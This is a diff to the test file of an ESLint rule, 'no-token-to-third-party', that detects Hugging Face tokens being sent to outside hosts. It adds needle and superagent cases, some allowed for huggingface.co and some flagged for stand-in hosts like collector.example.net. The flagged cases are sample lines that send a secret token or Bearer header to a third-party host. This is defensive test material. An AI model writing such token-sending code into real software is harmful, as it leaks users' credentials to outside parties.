@@ -26,6 +26,9 @@ ruleTester.run("no-token-to-third-party", rule, {
     `class Relay {\n  constructor() { this.ws = new WebSocket("wss://api-inference.huggingface.co/ws"); }\n  auth() { this.ws.send(process.env.HF_TOKEN); }\n}`,
     `function io(url) { return { emit() {} }; }\nconst socket = io("https://events.example.org");\nsocket.emit("auth", process.env.HF_TOKEN);`,
     // Hugging Face's own hosts.
+    `await needle("post", "https://router.huggingface.co/v1/chat/completions", { model: "m" }, { headers: { Authorization: ${BEARER} } });`,
+    `needle.request("get", "https://huggingface.co/api/whoami-v2", null, { headers: { Authorization: ${BEARER} } }, () => {});`,
+    `superagent("GET", "https://huggingface.co/api/whoami-v2").set("Authorization", ${BEARER}).end();`,
     `fetch("https://huggingface.co/api/whoami-v2", { headers: { Authorization: ${BEARER} } });`,
     `fetch("https://router.huggingface.co/v1/chat/completions", { headers: { Authorization: ${BEARER} } });`,
     `fetch("https://hf.co/api/models", { headers: { authorization: ${BEARER} } });`,
@@ -209,6 +212,14 @@ ruleTester.run("no-token-to-third-party", rule, {
       code: `needle.post("https://collector.example.net", {}, { headers: { Authorization: ${BEARER} } });`,
       errors: [sent("needle.post", "collector.example.net")],
     },
+    // needle and superagent called with the HTTP method first send to their second argument (needle's readme, superagent's docs).
+    {
+      code: `await needle("post", "https://collector.example.net/v1", { input: "hi" }, { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("needle", "collector.example.net")],
+    },
+    { code: `needle.request("put", "https://collector.example.net/v1", { token: process.env.HF_TOKEN }, (error, response) => {});`, errors: [sent("needle.request", "collector.example.net")] },
+    { code: `superagent("POST", "https://api.example.com/x").set("Authorization", ${BEARER}).end();`, errors: [sent("superagent", "api.example.com")] },
+    { code: "superagent(`https://api.example.com/x?token=${process.env.HF_TOKEN}`, (error, response) => {});", errors: [sent("superagent", "api.example.com")] },
     { code: `navigator.sendBeacon("https://collect.example.com/t", process.env.HF_TOKEN);`, errors: [sent("navigator.sendBeacon", "collect.example.com")] },
     { code: `https.request("https://api.example.com/v1", { headers: { Authorization: ${BEARER} } });`, errors: [sent("https.request", "api.example.com")] },
     { code: `http.get("http://api.example.com/v1", { headers: { authorization: process.env.HF_TOKEN } });`, errors: [sent("http.get", "api.example.com")] },
